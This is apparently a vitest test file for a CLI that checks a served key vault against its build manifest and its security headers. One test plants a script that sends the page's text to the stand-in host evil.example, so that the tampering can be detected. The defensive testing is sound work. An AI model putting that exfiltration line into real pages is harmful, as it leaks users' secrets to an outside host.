// `keyhold-vault verify <url>` run as a real process against a vault served by createVaultHandler on a real
// port: the built vault matches its installed manifest; a vault with one byte changed, or an extra script
// tag in its document, fails with a message naming the file; a vault served without its headers fails.
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toNodeHandler } from '../../server/src/node.js';
import { createVaultHandler } from '../../server/src/vault.js';

const dist = fileURLToPath(new URL('../dist/', import.meta.url));
const bin = fileURLToPath(new URL('../bin/keyhold-vault.js', import.meta.url));
interface Manifest {
  files: { path: string; integrity: string; bytes: number }[];
}
const integrityOf = (bytes: Uint8Array | string): string =>
  `sha384-${createHash('sha384').update(bytes).digest('base64')}`;

/** Runs the command; resolves with its exit code and output (never rejects on a non-zero exit). */
function verify(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [bin, ...args], (error, stdout, stderr) =>
      resolve({ code: error ? Number(error.code) : 0, out: stdout, err: stderr }),
    );
  });
}

/** A copy of the built vault changed by `tamper`, its own manifest rewritten to match (the server is the attacker's). */
function tamperedCopy(tamper: (root: string, manifest: Manifest) => void): string {
  const root = mkdtempSync(join(tmpdir(), 'keyhold-vault-tampered-'));
  cpSync(dist, root, { recursive: true });
  const manifest = JSON.parse(readFileSync(join(root, 'vault-manifest.json'), 'utf8')) as Manifest;
  tamper(root, manifest);
  for (const file of manifest.files) {
    const bytes = readFileSync(join(root, file.path));
    Object.assign(file, { integrity: integrityOf(bytes), bytes: bytes.byteLength });
  }
  writeFileSync(join(root, 'vault-manifest.json'), JSON.stringify(manifest));
  return root;
}

const servers: Server[] = [];
async function serve(listener: RequestListener): Promise<string> {
  const server = createServer(listener);
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}
const vaultAt = (root: string): Promise<string> =>
  serve(toNodeHandler(createVaultHandler({ root, parentOrigins: ['https://app.example.com'] })));

let script: string;
beforeAll(() => {
  if (!existsSync(join(dist, 'vault-manifest.json'))) {
    throw new Error('The vault is not built: run `pnpm --filter @keyhold/vault build` first');
  }
  const manifest = JSON.parse(readFileSync(join(dist, 'vault-manifest.json'), 'utf8')) as Manifest;
  script = manifest.files.find((f) => f.path.endsWith('.js'))!.path;
});
afterAll(() => Promise.all(servers.map((s) => new Promise((r) => s.close(r)))));

describe('keyhold-vault verify', () => {
  it('passes a vault served by createVaultHandler from the installed build, file by file', async () => {
    const url = await vaultAt(dist);
    const { code, out } = await verify('verify', url);
    expect(code, out).toBe(0);
    expect(out).toContain(`ok   ${script}: sha384-`);
    expect(out).toContain('ok   / (index.html): sha384-');
    expect(out).toContain('ok   / (index.html) Integrity-Policy: blocked-destinations=(script)');
    expect(out).toMatch(
      /ok {3}\/ \(index\.html\) Content-Security-Policy: only its own scripts; embeddable by https:\/\/app\.example\.com/,
    );
    expect(out).toMatch(/serves exactly the files of @keyhold\/vault \d/);
    expect(out).toContain('What this does not prove:');
    expect(out).not.toContain('FAIL');
  });

  it('fails a vault whose script has one byte changed, naming the file', async () => {
    const root = tamperedCopy((dir) => {
      const bytes = readFileSync(join(dir, script));
      bytes[100] = bytes[100]! ^ 1;
      writeFileSync(join(dir, script), bytes);
    });
    const { code, out } = await verify('verify', await vaultAt(root));
    expect(code, out).toBe(1);
    expect(out).toContain(`FAIL ${script}: served bytes differ from the manifest`);
    expect(out).toMatch(/1 difference\(s\): the vault at .* is NOT the one of @keyhold\/vault/);
    expect(out).toContain('What this does not prove:');
  });

  it('fails a vault whose document loads an extra script, naming the script', async () => {
    const root = tamperedCopy((dir, manifest) => {
      const evil = 'fetch("https://evil.example/?" + document.body.innerText);';
      writeFileSync(join(dir, 'evil.js'), evil);
      manifest.files.push({ path: 'evil.js', integrity: '', bytes: 0 });
      const html = readFileSync(join(dir, 'index.html'), 'utf8').replace(
        '</head>',
        `<script src="./evil.js" integrity="${integrityOf(evil)}" crossorigin></script></head>`,
      );
      writeFileSync(join(dir, 'index.html'), html);
    });
    const { code, out } = await verify('verify', await vaultAt(root));
    expect(code, out).toBe(1);
    expect(out).toContain('FAIL / (index.html) loads ./evil.js: a file the manifest does not name');
    expect(out).toContain('FAIL / (index.html): served bytes differ from the manifest');
    expect(out).toContain('FAIL index.html: served bytes differ from the manifest');
  });

  it('fails the right files served without the vault document headers (a plain static server)', async () => {
    const url = await serve((req, res) => {
      const path = req.url === '/' ? 'index.html' : req.url!.slice(1);
      if (!existsSync(join(dist, path))) return void res.writeHead(404).end();
      res.writeHead(200).end(readFileSync(join(dist, path)));
    });
    const { code, out } = await verify('verify', url);
    expect(code, out).toBe(1);
    expect(out).toContain('ok   / (index.html): sha384-');
    expect(out).toContain('FAIL / (index.html) Content-Security-Policy: missing');
    expect(out).toContain('FAIL / (index.html) Integrity-Policy: missing');
    expect(out).toContain('FAIL vault-config.json: not served');
  });

  it('names an unreachable vault and a usage error', async () => {
    const closed = await serve(() => undefined);
    await new Promise((r) => servers.pop()!.close(r));
    const unreachable = await verify('verify', closed);
    expect(unreachable.code).toBe(1);
    expect(unreachable.out).toMatch(
      /FAIL \/ \(index\.html\): could not be fetched from http:\/\/127\.0\.0\.1:\d+\//,
    );
    const usage = await verify('check', 'keys.example.com');
    expect(usage.code).toBe(2);
    expect(usage.err).toContain('Usage: keyhold-vault verify <vault URL>');
  });
});
